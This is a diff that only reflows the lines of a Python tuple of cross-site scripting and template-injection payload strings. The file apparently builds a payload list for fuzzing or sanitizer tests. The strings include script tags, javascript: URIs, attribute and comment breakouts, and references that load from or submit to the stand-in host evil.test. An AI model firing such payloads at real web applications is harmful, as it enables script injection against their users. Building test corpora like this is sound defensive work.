@@ -20,14 +20,19 @@ _TAGS = ("script", "img src=x", "svg", "iframe", "body", "input autofocus", "det
 _EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onanimationend", "onpointerenter")
 _OTHER = (
     "<script>x()</script>", "<ScRiPt>x()</sCrIpT>", "<script src=//evil.test></script>", "'\"><script>x()</script>",
-    "</textarea><script>x()</script>", "</title><script>x()</script>", "<!--><script>x()</script>-->", "<svg><script>x()</script>",
+    "</textarea><script>x()</script>", "</title><script>x()</script>",
+    "<!--><script>x()</script>-->", "<svg><script>x()</script>",
     "javascript:x()", "JaVaScRiPt:x()", "data:text/html,<script>x()</script>", "<a href='javascript:x()'>a</a>",
     "<iframe srcdoc='<script>x()</script>'></iframe>", "<base href=//evil.test>", "<meta http-equiv=refresh content=0>",
-    "<link rel=stylesheet href=//evil.test>", "<style>@import '//evil.test'</style>", "<form action=//evil.test><button>",
-    "{{7*7}}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "&lt;script&gt;x()&lt;/script&gt;", "&#60;script&#62;", "\u2028<script>",
-    "<noscript><p title='</noscript><script>x()</script>'>", "<template><script>x()</script></template>", "\u202e<script>",
+    "<link rel=stylesheet href=//evil.test>", "<style>@import '//evil.test'</style>",
+    "<form action=//evil.test><button>",
+    "{{7*7}}", "{% raw %}", "${7*7}", "<%= 7*7 %>", "&lt;script&gt;x()&lt;/script&gt;",
+    "&#60;script&#62;", "\u2028<script>",
+    "<noscript><p title='</noscript><script>x()</script>'>",
+    "<template><script>x()</script></template>", "\u202e<script>",
     "<object data=x>", "<embed src=x>", "<math><mi xlink:href='javascript:x()'>", "<portal src=x>", "\ufeff<script>x()",
-    "<x onclick=x() style=color:red>", "` onmouseover=x() `", "' onfocus='x()", '" autofocus onfocus="x()', "--><svg/onload=x()>",
+    "<x onclick=x() style=color:red>", "` onmouseover=x() `",
+    "' onfocus='x()", '" autofocus onfocus="x()', "--><svg/onload=x()>",
     "<image href=x onerror=x()>", "<p style='background:url(//evil.test)'>",
 )  # fmt: skip
 PAYLOADS = [
